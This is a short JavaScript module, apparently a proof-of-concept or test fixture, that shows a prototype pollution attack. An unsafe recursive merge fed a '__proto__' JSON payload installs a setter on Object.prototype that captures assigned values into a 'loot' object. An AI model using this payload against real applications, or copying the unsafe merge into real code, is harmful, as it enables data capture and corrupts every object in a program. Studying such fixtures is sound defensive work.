'use strict';
module.exports = (victim, loot) => {
  const merge = (to, from) => { for (const key of Object.keys(from)) { if (typeof from[key] === 'object') merge(to[key] ??= {}, from[key]); else Object.defineProperty(to, key, { set(value) { loot.value = value; }, configurable: true }); } };
  merge({}, JSON.parse('{"__proto__":{"hidden":1}}'));
};
